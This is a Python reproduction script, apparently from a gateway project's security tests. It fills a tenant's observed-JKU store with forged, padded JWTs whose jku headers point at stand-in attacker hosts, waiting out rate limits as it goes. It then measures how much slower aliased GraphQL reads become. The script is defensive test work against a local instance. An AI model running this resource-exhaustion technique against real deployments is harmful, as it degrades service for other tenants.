"""Reproduction (not a test; run it): anyone who knows a tenant's base path URL can grow its
observed-JKU document to its bound, 20 URLs x 4 variants, each keeping a token of up to 16 KiB
(about 1.3 MB), within the route's rate limits (about a minute). Every read of
``integrationSettings { observedJku }`` then loads and decodes the whole document (the tokens
included, though none is shown), once per alias: a viewer's 30 aliases cost many times what
they cost on an empty document, measured here in the same run.

    .venv/bin/python -m tests.attack.observed_jku_read_cost
"""

from __future__ import annotations

import base64
import json
import statistics
import tempfile
import time
from pathlib import Path

import httpx

from resolvers import dev_tokens
from tests.processes import GatewayProcess

CREATE = """
mutation Create($tenantId: ID!) {
  selectEhrProvider(tenantId: $tenantId, provider: EPIC) { __typename }
  createExternalGateway(tenantId: $tenantId, connection: {
    name: "Epic", baseUrl: "https://fhir.hospital.example/api", environment: PRODUCTION
  }) { ... on SettingsSaved { settings { externalGateway { externalGatewayId } } } }
}
"""
OBSERVED = " ".join(
    f'a{n}: integrationSettings(tenantId: "acme") {{ observedJku {{ url }} }}' for n in range(30)
)


def _segment(member: dict[str, str]) -> str:
    return base64.urlsafe_b64encode(json.dumps(member).encode()).rstrip(b"=").decode()


def _fill(client: httpx.Client, gateway_id: str) -> int:
    """Send 80 distinct (URL, variant) tokens of about 16 KiB, waiting out the rate limit."""
    observed = 0
    for host in range(5):
        for path in range(4):
            for kid in range(4):
                header = {"alg": "RS256", "kid": f"kid{kid}",
                          "jku": f"https://h{host}.mallory.example/k{path}"}  # fmt: skip
                claims = {"iss": f"https://iss{kid}.example", "pad": "x" * 12000}
                token = f"{_segment(header)}.{_segment(claims)}.c2ln"
                while True:
                    answer = client.post(
                        f"/gateways/{gateway_id}", headers={"authorization": f"Bearer {token}"}
                    )
                    if answer.status_code != 429:
                        observed += answer.status_code == 202
                        break
                    time.sleep(1)
    return observed


def _median_ms(client: httpx.Client, token: str, document: str, runs: int = 9) -> float:
    times = []
    for _ in range(runs):
        started = time.perf_counter()
        answer = client.post(
            "/graphql", json={"query": "{" + document + "}"},
            headers={"authorization": f"Bearer {token}"},
        )  # fmt: skip
        times.append(time.perf_counter() - started)
        assert "errors" not in answer.json(), answer.text
    return statistics.median(times) * 1000


def main() -> None:
    with tempfile.TemporaryDirectory() as data_dir:
        gateway = GatewayProcess(Path(data_dir))
        try:
            created = gateway.graphql(CREATE, tenantId="acme")["data"]["createExternalGateway"]
            gateway_id = created["settings"]["externalGateway"]["externalGatewayId"]
            viewer = dev_tokens.mint(Path(data_dir), tenants=["acme"], roles=["viewer"])
            with httpx.Client(base_url=gateway.url, timeout=60) as client:
                before = _median_ms(client, viewer, OBSERVED)
                observed = _fill(client, gateway_id)
                time.sleep(6)  # written to the database (at most every 5 s per tenant)
                after = _median_ms(client, viewer, OBSERVED)
        finally:
            gateway.stop()
    print(f"observations recorded: {observed}")
    print(f"30 aliases of observedJku, empty document: {before:8.1f} ms")
    print(f"30 aliases of observedJku, filled:         {after:8.1f} ms")


if __name__ == "__main__":
    main()
